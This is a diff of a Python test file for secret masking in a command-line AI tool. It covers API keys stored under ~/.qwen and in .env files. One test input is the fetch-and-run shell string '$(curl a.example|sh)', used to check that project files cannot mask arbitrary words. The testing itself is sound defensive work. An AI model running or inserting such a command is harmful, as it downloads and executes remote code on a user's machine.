@@ -23,7 +23,7 @@ PLACES = {
     "~/.qwen/mcp-oauth-tokens.json": [{"serverName": "s", "token": {"accessToken": "KEY"}}],
     "~/.qwen/local_server.json": {"base_url": "http://127.0.0.1:1", "key": "KEY", "pid": 1},
     "~/.qwen/settings.json": {"security": {"auth": {"apiKey": "KEY"}}},
-    ".qwen/settings.json": {"modelProviders": [{"headers": {"Authorization": "Bearer KEY"}}]},
+    "~/.qwen/settings.json ": {"modelProviders": [{"headers": {"Authorization": "Bearer KEY"}}]},
     "~/.qwen/.env": "LLAMA_API_KEY=KEY\n",
     "~/.env": "OPENAI_API_KEY='KEY'\n",
 }
@@ -35,7 +35,9 @@ def test_a_secret_is_known_wherever_it_is_stored(world: Any, place: str, tmp_pat
     world.write(".env", "LLAMA_API_MODEL=m\n")  # goes before the user's own
     content = PLACES[place]
     text = content if isinstance(content, str) else json.dumps(content)
-    world.write(place, text.replace("KEY", key) if "API_KEY" not in text else _filled(text, key))
+    world.write(
+        place.strip(), text.replace("KEY", key) if "API_KEY" not in text else _filled(text, key)
+    )
     remember_stored_secrets(Config.load(world.env, world.project))
     assert holds_secret(f"x {key} y")
 
@@ -54,6 +56,24 @@ def test_a_damaged_file_hides_no_other(world: Any, text: str, tmp_path: Path) ->
     (world.home / ".qwen" / "accounts" / "d.json").mkdir()
     remember_stored_secrets(Config.load(world.env, world.project))
     assert holds_secret(key)
+
+
+@pytest.mark.parametrize("file", [".env", ".qwen/.env", ".qwen/settings.json"])
+@pytest.mark.parametrize("words", ["return False # nothing", "function", "$(curl a.example|sh)"])
+def test_a_project_cannot_have_words_masked(world: Any, file: str, words: str) -> None:
+    """A change that a person approves would hide them."""
+    tree = {"security": {"token": words}, "env": {"LLAMA_API_KEY": words}}
+    world.write(file, tree if file.endswith("json") else f"LLAMA_API_KEY='{words}'\n")
+    remember_stored_secrets(Config.load(world.env, world.project))
+    assert not holds_secret(words)
+
+
+def test_a_project_takes_no_path_from_children(world: Any) -> None:
+    world.write(".env", "LLAMA_API_KEY=opt/tools-1.2.3/bin\n")
+    world.env["PATH"] = "/opt/tools-1.2.3/bin:/bin"
+    config = Config.load(world.env, world.project)
+    remember_stored_secrets(config)
+    assert config.environment.child_environment()["PATH"] == world.env["PATH"]
 
 
 def test_what_servers_of_others_are_meant_to_have_is_left_to_them(world: Any) -> None:
